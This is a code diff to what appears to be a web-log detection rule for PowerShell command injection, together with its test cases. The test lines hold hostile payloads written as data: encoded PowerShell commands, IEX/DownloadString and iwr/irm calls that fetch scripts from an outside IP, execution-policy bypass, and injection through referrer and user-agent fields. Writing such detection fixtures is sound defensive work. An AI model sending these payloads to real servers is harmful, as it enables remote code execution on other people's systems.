@@ -1,3 +1,4 @@
+import { each } from '../example.ts'
 import { defineRule } from '../rule.ts'
 
 export default defineRule({
@@ -22,8 +23,6 @@ export default defineRule({
     [
       'powershell',
       'pwsh',
-      'invoke-expression',
-      'invoke-webrequest',
       'downloadstring',
       'downloadfile',
       'frombase64string',
@@ -50,6 +49,36 @@ export default defineRule({
     'GET /a?x=;powershell%20-enc%20SQBFAFgA HTTP/1.1',
     "GET /a?x=IEX(New-Object%20Net.WebClient).DownloadString('http://203.0.113.9/a.ps1') HTTP/1.1",
     'GET /a?cmd=powershell.exe+-nop+-w+hidden+-c+calc HTTP/1.1',
+    'GET /a?x=;pwsh%20-enc%20SQBFAFgA HTTP/1.1',
+    'GET /a?x=;powershell%20/enc%20SQBFAFgA HTTP/1.1',
+    ...each(
+      'GET /a?x=;powershell%20-{}%20SQBFAFgA HTTP/1.1',
+      'noprofile " windowstyle command ep exec executionpolicy noni sta iex invoke wget curl ls dir start',
+    ),
+    'GET /a?x=;powershell%20-encodedcommand%20SQBFAFgA HTTP/1.1',
+    'GET /a?x=;powershell%20-ec%20SQBFAFgA HTTP/1.1',
+    'GET /;powershell%20-enc%20SQBFAFgA HTTP/1.1',
+    {
+      request: 'GET / HTTP/1.1',
+      referrer: 'https://www.example.com/a?x=;powershell%20-enc%20SQBFAFgA',
+    },
+    { request: 'GET / HTTP/1.1', agent: ';powershell -enc SQBFAFgA' },
+    { request: 'GET / HTTP/1.1', user: ';powershell -enc SQBFAFgA' },
+    ...each(
+      'GET /a?x={} HTTP/1.1',
+      `invoke-expression+$x start-process+'calc' invoke-webrequest+http://203.0.113.9/a
+    new-object+net.webclient [convert]::frombase64string('aWQ=') $w.downloadstring('a')
+    $w.downloadfile('a','b')`,
+    ),
+    ...each(
+      'GET /a?x=;{} HTTP/1.1',
+      `iwr+http://203.0.113.9/a iwmi+-class+x iex($x) irm+https://203.0.113.9/a invoke-command+-a
+    get-content+c:/a set-executionpolicy+bypass`,
+    ),
+    'GET /a?x=iwr+http://203.0.113.9/a HTTP/1.1',
+    ...each('GET /a?x=;invoke-{}+-a HTTP/1.1', 'wmimethod cimmethod restmethod item'),
+    ...each('GET /a?x=;get-{}+c:/a HTTP/1.1', 'childitem process wmiobject credential'),
+    'GET /a?x=;iex+$x) HTTP/1.1',
   ],
   misses: [
     {
@@ -58,5 +87,6 @@ export default defineRule({
     },
     'GET /course/powershell-basics?level=1 HTTP/1.1',
     'GET /q?text=powershell+tutorial HTTP/1.1',
+    { message: 'upstream timed out, request: "GET /a?x=;powershell%20-enc%20SQBFAFgA HTTP/1.1"' },
   ],
 })
